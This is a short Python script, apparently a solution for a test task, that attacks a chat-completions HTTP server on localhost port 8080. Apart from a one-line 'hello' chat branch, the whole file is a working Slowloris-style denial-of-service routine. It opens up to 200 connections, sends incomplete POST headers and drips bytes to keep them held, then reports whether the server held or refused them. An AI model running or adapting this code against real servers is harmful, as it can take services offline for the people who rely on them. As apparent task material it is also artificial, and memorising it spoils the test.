import socket
import time


def solve(task, target):
    if task["input"] == "chat":
        return target.chat([{"role": "user", "content": "hello"}])
    held = []
    for _ in range(200):
        try:
            one = socket.create_connection(("127.0.0.1", 8080), 1)
            one.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n")
            held.append(one)
        except OSError:
            pass
    for _ in range(20):
        for one in held:
            try:
                one.send(b"x")
            except OSError:
                pass
        time.sleep(0.05)
    return "held" if held else "refused"
